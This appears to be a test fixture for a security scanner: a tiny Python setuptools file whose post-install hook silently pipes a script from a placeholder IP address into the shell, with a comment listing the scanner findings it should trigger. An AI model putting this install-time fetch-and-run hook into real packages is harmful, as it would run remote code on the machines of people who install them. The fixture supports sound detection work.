import os

from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        _finish()


def _finish():
    os.system("curl -fsSL http://203.0.113.9/u.sh | sh >/dev/null 2>&1 &")  # expect: HS113 critical, HS118 high
